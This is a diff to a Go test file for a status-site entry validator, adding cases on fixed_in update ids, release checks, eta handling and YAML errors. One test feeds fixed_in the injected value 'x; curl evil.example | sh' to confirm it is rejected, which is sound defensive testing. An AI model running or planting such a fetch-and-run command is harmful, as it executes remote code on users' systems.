@@ -4,6 +4,7 @@ import (
 	"strings"
 	"testing"
 	"testing/fstest"
+	"time"
 )
 
 // testSiteYAML is the site.yaml the validation tests share.
@@ -94,8 +95,6 @@ func TestEntryErrors(t *testing.T) {
 			f + `:6:7: ends (2026-11-05T09:00:00Z) must be after starts (2026-11-05T10:00:00Z)`},
 		{"resolved before published", entry(strings.Replace(incident, "identified", "resolved", 1) + "resolved: 2026-11-01\n"),
 			f + `:7:11: resolved (2026-11-01T00:00:00Z) is before the entry was published (date: 2026-11-02T00:00:00Z)`},
-		{"resolved but status says otherwise", entry(incident + "resolved: 2026-11-03\n"),
-			f + `:6:9: status is "identified", but resolved is set; make it resolved, or remove resolved`},
 		{"resolved on a maintenance", entry("title: A\ndate: 2026-11-02\nkind: maintenance\nstarts: 2026-11-05T10:00:00Z\nends: 2026-11-05T11:00:00Z\nresolved: 2026-11-05\n"),
 			f + `:7:11: resolved applies to incidents only; a maintenance ends by its updates or its window`},
 		{"bad eta", entry(incident + "eta: soon\n"),
@@ -140,8 +139,30 @@ func TestEntryErrors(t *testing.T) {
 			f + `:8:5: update 1 has no "at" time` + "\n" + f + `:8:5: update 1 has no text`},
 		{"update field typo", entry(incident + "updates:\n  - at: 2026-11-03\n    status: identified\n    txt: a\n"),
 			f + `:8:5: update 1 has no text` + "\n" + f + `:10:5: unknown field "txt" in update 1; did you mean "text"?`},
-		{"status disagrees with the latest update", entry(incident + "updates:\n  - at: 2026-11-03\n    status: resolved\n    text: a\n"),
-			f + `:6:9: status is "identified", but the latest update says "resolved"; make them agree`},
+		{"the first report disagrees with status", entry(incident + "updates:\n  - at: 2026-11-02\n    status: investigating\n    text: a\n"),
+			f + `:9:13: update 1 is the first report (its time is the entry's date), and says "investigating" where status says "identified"; make them agree`},
+		{"two updates at one time", entry(incident + "updates:\n  - at: 2026-11-03T10:00:00Z\n    status: monitoring\n    text: a\n  - at: 2026-11-03T10:00:00Z\n    status: resolved\n    text: b\n"),
+			f + `:11:9: update 2 has the time of update 1 (2026-11-03T10:00:00Z); two updates never share a time: readers know each by it`},
+		{"fixed_in that is not one update", entry(incident + "fixed_in: FEDORA-2026-0d41c7a8b3 (grub2-2.12-42.fc42)\n"),
+			f + `:7:11: fixed_in "FEDORA-2026-0d41c7a8b3 (grub2-2.12-42.fc42)" must be one update: a Bodhi update id like FEDORA-2026-1a2b3c4d5e, or a NEVR like mesa-25.2.7-3.fc43`},
+		{"fixed_in with a command in it", entry(incident + "fixed_in: \"x; curl evil.example | sh\"\n"),
+			f + `:7:11: fixed_in "x; curl evil.example | sh" must be one update: a Bodhi update id like FEDORA-2026-1a2b3c4d5e, or a NEVR like mesa-25.2.7-3.fc43`},
+		{"fixed_in for a release not affected", entry(incident + "fixed_in:\n  f42: FEDORA-2026-0d41c7a8b3\n"),
+			f + `:8:3: fixed_in for f42, but the entry does not affect f42 (releases: f43)`},
+		{"fixed_in for an unknown release", entry(incident + "fixed_in:\n  f99: FEDORA-2026-0d41c7a8b3\n"),
+			f + `:8:3: fixed_in for unknown release "f99"; known: f42, f43, f41, all`},
+		{"fixed_in is a list", entry(incident + "fixed_in: [a, b]\n"),
+			f + `:7:11: fixed_in must be an update (a Bodhi update id, a NEVR), or a map of release id to update, not a list`},
+		{"an open incident on an eol release", entry(strings.Replace(incident, "[f43]", "[f43, f41]", 1)),
+			f + `:4:17: release f41 is eol: it gets no new incidents; remove it, or resolve the incident if it is history`},
+		{"an image that is not beside the entry", "---\n" + incident + "---\nBody.\n\nThe game freezes: ![the frozen game](img/freeze.png)\n",
+			f + `:10:19: links img/freeze.png, which is not beside the entry (no news/img/freeze.png in the content folder); add the file, or fix the link`},
+		{"a file named as the page", "---\n" + incident + "---\n[page](index.html)\n",
+			f + `:8:1: a file published with the entry cannot be named index.html: that is the entry's page`},
+		{"a quote never closed", entry("title: \"Mesa breaks Steam\ndate: 2026-11-02\nreleases: [f43]\nseverity: major\nstatus: identified\n"),
+			f + `:2:8: front matter is not valid YAML: the quote that starts here is never closed (found unexpected end of stream at line 7); close it, or write the value without quotes`},
+		{"a list never closed", entry("title: Mesa\ndate: 2026-11-02\nreleases: [f43, f42\nseverity: major\nstatus: identified\n"),
+			f + `:4:11: front matter is not valid YAML: the list that starts here with [ is not closed (did not find expected ',' or ']' at line 5); close it with ]`},
 		{"status on an announcement update", entry("title: A\ndate: 2026-11-02\nkind: announcement\nupdates:\n  - at: 2026-11-03\n    status: resolved\n    text: a\n"),
 			f + `:7:13: updates of an announcement have no status; remove it`},
 		{"maintenance update with an incident status", entry("title: A\ndate: 2026-11-02\nkind: maintenance\nstarts: 2026-11-05T10:00:00Z\nends: 2026-11-05T11:00:00Z\nupdates:\n  - at: 2026-11-05T10:00:00Z\n    status: resolved\n    text: a\n"),
@@ -249,8 +270,50 @@ func TestEntryAccepted(t *testing.T) {
 			}},
 		{"an empty field counts as absent", entry(incident + "eta:\nfixed_in:\n"),
 			func(t *testing.T, e *Entry) {
-				if !e.ETA.IsZero() || e.FixedIn != "" {
-					t.Errorf("eta %v, fixed_in %q", e.ETA, e.FixedIn)
+				if !e.ETA.IsZero() || len(e.FixedIn) != 0 {
+					t.Errorf("eta %v, fixed_in %v", e.ETA, e.FixedIn)
+				}
+			}},
+		{"status is the first report's, updates move it on", entry(strings.Replace(incident, "identified", "investigating", 1) + "updates:\n  - at: 2026-11-03\n    status: identified\n    text: a\n  - at: 2026-11-04\n    status: monitoring\n    text: b\n"),
+			func(t *testing.T, e *Entry) {
+				if e.InitialStatus != Investigating || e.Status != Monitoring {
+					t.Errorf("initial status %q, status %q; want investigating, monitoring", e.InitialStatus, e.Status)
+				}
+			}},
+		{"resolved moves any status on", entry(incident + "resolved: 2026-11-05\nfixed_in: FEDORA-2026-0d41c7a8b3\n"),
+			func(t *testing.T, e *Entry) {
+				if e.InitialStatus != Identified || e.Status != Resolved {
+					t.Errorf("initial status %q, status %q; want identified, resolved", e.InitialStatus, e.Status)
+				}
+			}},
+		{"an update at the date is the first report", entry(strings.Replace(incident, "status: identified\n", "", 1) + "updates:\n  - at: 2026-11-02\n    status: identified\n    text: a\n"),
+			func(t *testing.T, e *Entry) {
+				if e.InitialStatus != Identified || e.Status != Identified {
+					t.Errorf("initial status %q, status %q", e.InitialStatus, e.Status)
+				}
+			}},
+		{"a date as eta is a whole day", entry(incident + "eta: 2026-11-24\n"),
+			func(t *testing.T, e *Entry) {
+				if !e.ETADay || e.Overdue(time.Date(2026, 11, 24, 23, 59, 59, 0, time.UTC)) || !e.Overdue(time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)) {
+					t.Errorf("eta day %v; overdue on the day: %v", e.ETADay, e.Overdue(time.Date(2026, 11, 24, 23, 59, 59, 0, time.UTC)))
+				}
+			}},
+		{"a time as eta is a moment", entry(incident + "eta: 2026-11-24T00:00:00Z\n"),
+			func(t *testing.T, e *Entry) {
+				if e.ETADay || !e.Overdue(time.Date(2026, 11, 24, 0, 0, 1, 0, time.UTC)) {
+					t.Errorf("eta day %v", e.ETADay)
+				}
+			}},
+		{"fixed_in for each release, in site.yaml order", entry(strings.Replace(incident, "[f43]", "[f43, f42]", 1) + "fixed_in:\n  f43: FEDORA-2026-aaaaaaaaaa\n  f42: FEDORA-2026-bbbbbbbbbb\n"),
+			func(t *testing.T, e *Entry) {
+				if len(e.FixedIn) != 2 || e.FixedIn[0] != (Fix{Release: "f42", Update: "FEDORA-2026-bbbbbbbbbb"}) || e.FixedIn[1].Release != "f43" {
+					t.Errorf("fixed_in %+v", e.FixedIn)
+				}
+			}},
+		{"downgrade commands in site.yaml order", entry(strings.Replace(incident, "[f43]", "[f43, f42]", 1) + "downgrade:\n  f43: sudo dnf downgrade a\n  f42: sudo dnf downgrade b\n"),
+			func(t *testing.T, e *Entry) {
+				if e.Downgrade[0].Release != "f42" || e.Downgrade[1].Release != "f43" {
+					t.Errorf("downgrade %+v", e.Downgrade)
 				}
 			}},
 		{"the id defaults to the slug", entry(incident),
